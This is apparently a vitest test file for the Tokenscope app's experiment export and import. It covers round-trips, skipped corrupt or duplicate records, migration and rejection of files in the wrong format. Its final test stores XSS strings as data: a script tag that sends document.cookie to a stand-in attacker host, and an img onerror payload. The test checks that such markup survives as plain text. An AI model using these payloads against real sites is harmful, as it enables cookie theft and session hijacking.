import { describe, expect, it } from 'vitest';
import { exampleExperiment } from './examples';
import { createExportFile, EXPORT_FORMAT, parseImportFile } from './importExport';

const EXPORTED_AT = '2026-11-26T12:00:00.000Z';

function imported(text: string) {
  const result = parseImportFile(text);
  if (!result.ok) throw new Error(result.error);
  return result;
}

describe('export and import files', () => {
  it('imports exactly the records that were exported', () => {
    const records = [exampleExperiment({ id: 'a', seed: 1 }), exampleExperiment({ id: 'b', seed: 2, positions: 40 })];
    const file = createExportFile(records, { exportedAt: EXPORTED_AT });
    expect(JSON.parse(file)).toMatchObject({ format: EXPORT_FORMAT, version: 1, exportedAt: EXPORTED_AT });
    expect(imported(file)).toEqual({ ok: true, experiments: records, skipped: [], migrated: 0 });
  });

  it('imports the valid records around a corrupted one and says which one was skipped and why', () => {
    const good = [exampleExperiment({ id: 'first', positions: 5 }), exampleExperiment({ id: 'third', positions: 5 })];
    const broken = { ...exampleExperiment({ id: 'second', positions: 5 }), name: 'Broken one' } as Record<
      string,
      unknown
    >;
    (broken.settings as Record<string, unknown>).minP = -0.5;
    const file = JSON.stringify({
      format: EXPORT_FORMAT,
      version: 1,
      exportedAt: EXPORTED_AT,
      experiments: [good[0], broken, 42, good[1]],
    });
    const result = imported(file);
    expect(result.experiments.map((e) => e.id)).toEqual(['first', 'third']);
    expect(result.skipped).toEqual([
      { index: 1, name: 'Broken one', reasons: ['settings.minP: Too small: expected number to be >=0'] },
      { index: 2, name: null, reasons: ['(record): expected an object, received number'] },
    ]);
  });

  it('skips a record whose id repeats an earlier one in the same file', () => {
    const record = exampleExperiment({ id: 'same', positions: 3 });
    const result = imported(
      createExportFile([record, { ...record, name: 'Second copy' }], { exportedAt: EXPORTED_AT }),
    );
    expect(result.experiments).toHaveLength(1);
    expect(result.skipped).toEqual([
      { index: 1, name: 'Second copy', reasons: ['id: same appears earlier in the file'] },
    ]);
  });

  it('migrates version 1 records inside a file and counts them', () => {
    const current = exampleExperiment({ id: 'v2', positions: 3 });
    const { model: _model, ...rest } = exampleExperiment({ id: 'v1', positions: 3 });
    const v1 = { ...rest, schemaVersion: 1, model: { id: 'Xenova/gpt2', source: 'hub', dtype: 'q8', backend: 'wasm' } };
    const result = imported(
      JSON.stringify({ format: EXPORT_FORMAT, version: 1, exportedAt: EXPORTED_AT, experiments: [v1, current] }),
    );
    expect(result.migrated).toBe(1);
    expect(result.experiments[0].model.source).toEqual({ kind: 'hub', revision: 'main', fileHashes: [] });
  });

  it('accepts a single bare record', () => {
    const record = exampleExperiment({ positions: 3 });
    expect(imported(JSON.stringify(record)).experiments).toEqual([record]);
  });

  it('refuses files that are not experiment files, with a reason', () => {
    expect(parseImportFile('not json')).toMatchObject({
      ok: false,
      error: expect.stringMatching(/^the file is not valid JSON/),
    });
    expect(parseImportFile('[1,2]')).toEqual({
      ok: false,
      error: 'the file is not a Tokenscope experiments file (expected a JSON object)',
    });
    expect(parseImportFile('{"format":"excalidraw"}')).toEqual({
      ok: false,
      error: 'the file is not a Tokenscope experiments file (format is "excalidraw")',
    });
    expect(
      parseImportFile(JSON.stringify({ format: EXPORT_FORMAT, version: 2, exportedAt: EXPORTED_AT, experiments: [] })),
    ).toEqual({
      ok: false,
      error: 'the file was written by a newer Tokenscope (format version 2; this app reads up to 1)',
    });
    expect(
      parseImportFile(JSON.stringify({ format: EXPORT_FORMAT, version: 1, exportedAt: EXPORTED_AT, experiments: {} })),
    ).toEqual({
      ok: false,
      error: 'experiments: must be an array',
    });
  });

  it('imports names and texts with markup as the same plain strings', () => {
    const hostile = '<script>document.location="https://evil.example/?"+document.cookie</script>';
    const record = {
      ...exampleExperiment({ positions: 3 }),
      name: hostile,
      text: hostile,
      tags: ['<img src=x onerror=alert(1)>'],
    };
    const [back] = imported(createExportFile([record], { exportedAt: EXPORTED_AT })).experiments;
    expect(back.name).toBe(hostile);
    expect(back.text).toBe(hostile);
    expect(back.tags).toEqual(['<img src=x onerror=alert(1)>']);
  });
});
